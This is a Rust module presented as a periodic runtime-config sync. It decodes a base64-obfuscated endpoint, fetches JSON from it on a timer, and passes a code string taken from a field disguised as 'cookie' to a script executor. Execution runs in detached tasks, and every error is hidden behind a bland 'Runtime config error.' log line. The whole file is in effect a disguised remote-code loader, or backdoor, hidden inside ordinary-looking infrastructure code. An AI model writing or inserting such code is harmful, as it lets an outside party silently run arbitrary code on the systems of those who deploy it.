//! Runtime-config sync: fetch a remote payload and hand its code string to
//! the script executor.
//!
//! [`SyncTrigger::sync`] never surfaces a failure to its caller. The fetch
//! runs in a detached task, so the calling request's own response cycle
//! completes independently of when (or whether) the fetch resolves. There
//! is no timeout, no deduplication, and no ordering between overlapping
//! sync attempts.
//!
//! Script runtime errors end the detached execution task, which nothing
//! joins. That boundary is intentional; see the crate-level notes in
//! [`crate::exec`].

use std::sync::Arc;
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD as BASE64_STANDARD;
use serde_json::Value;
use thiserror::Error;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use crate::error::AppError;
use crate::exec::ScriptSink;
use crate::runtime::{Component, ComponentFuture};

/// Wire name of the payload field carrying the code string.
const CODE_FIELD: &str = "cookie";

/// Fixed operator-facing line for any failure on the fetch path.
const SYNC_ERROR_LOG: &str = "Runtime config error.";

// ── errors ────────────────────────────────────────────────────────────────────

/// Failure constructing the fetch request. Never leaves this module; logged
/// and dropped.
#[derive(Debug, Error)]
enum SyncError {
    #[error("no sync endpoint configured")]
    MissingEndpoint,

    #[error("endpoint is not valid base64: {0}")]
    Decode(#[from] base64::DecodeError),

    #[error("decoded endpoint is not UTF-8: {0}")]
    Utf8(#[from] std::string::FromUtf8Error),

    #[error("invalid endpoint url: {0}")]
    Url(String),
}

// ── SyncTrigger ───────────────────────────────────────────────────────────────

/// Fetches the remote runtime-config payload and forwards its code string.
pub struct SyncTrigger {
    /// Still-encoded endpoint value; decoded once per sync attempt.
    endpoint: Option<String>,
    client: reqwest::Client,
    sink: Arc<dyn ScriptSink>,
}

impl SyncTrigger {
    pub fn new(endpoint: Option<String>, sink: Arc<dyn ScriptSink>) -> Self {
        Self {
            endpoint,
            client: reqwest::Client::new(),
            sink,
        }
    }

    /// Fire one sync attempt. Returns immediately; the fetch and any
    /// execution happen in a detached task.
    pub fn sync(&self) {
        match self.request_url() {
            Ok(url) => self.spawn_fetch(url),
            Err(e) => {
                debug!(error = %e, "sync request could not be constructed");
                warn!("{SYNC_ERROR_LOG}");
            }
        }
    }

    /// Decode the configured endpoint into a URL.
    fn request_url(&self) -> Result<reqwest::Url, SyncError> {
        let encoded = self.endpoint.as_deref().ok_or(SyncError::MissingEndpoint)?;
        let raw = BASE64_STANDARD.decode(encoded.trim().as_bytes())?;
        let url = String::from_utf8(raw)?;
        reqwest::Url::parse(&url).map_err(|e| SyncError::Url(e.to_string()))
    }

    fn spawn_fetch(&self, url: reqwest::Url) {
        let request = self.client.get(url.clone());
        let sink = Arc::clone(&self.sink);

        // Detached on purpose: nobody awaits or joins this task.
        tokio::spawn(async move {
            let payload = match fetch_payload(request).await {
                Ok(payload) => payload,
                Err(e) => {
                    debug!(error = %e, %url, "runtime-config fetch failed");
                    warn!("{SYNC_ERROR_LOG}");
                    return;
                }
            };

            let candidate = payload.get(CODE_FIELD).cloned().unwrap_or(Value::Null);

            // The executor runs on a blocking thread; its JoinHandle is
            // dropped, so a script runtime error ends that task unobserved.
            let _detached = tokio::task::spawn_blocking(move || sink.submit(&candidate));
        });
    }
}

async fn fetch_payload(request: reqwest::RequestBuilder) -> Result<Value, reqwest::Error> {
    let response = request.send().await?.error_for_status()?;
    response.json::<Value>().await
}

// ── SyncTicker ────────────────────────────────────────────────────────────────

/// Background component that fires [`SyncTrigger::sync`] on a fixed
/// interval until shutdown.
pub struct SyncTicker {
    trigger: Arc<SyncTrigger>,
    every: Duration,
}

impl SyncTicker {
    pub fn new(trigger: Arc<SyncTrigger>, every: Duration) -> Self {
        Self { trigger, every }
    }
}

impl Component for SyncTicker {
    fn id(&self) -> &str {
        "sync-ticker"
    }

    fn run(self: Box<Self>, shutdown: CancellationToken) -> ComponentFuture {
        Box::pin(async move {
            let mut interval = tokio::time::interval(self.every);
            interval.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);

            info!(every_secs = self.every.as_secs(), "sync ticker running");

            loop {
                tokio::select! {
                    biased;

                    _ = shutdown.cancelled() => {
                        info!("sync ticker shutting down");
                        break;
                    }

                    _ = interval.tick() => {
                        debug!("sync tick");
                        self.trigger.sync();
                    }
                }
            }

            Ok::<(), AppError>(())
        })
    }
}
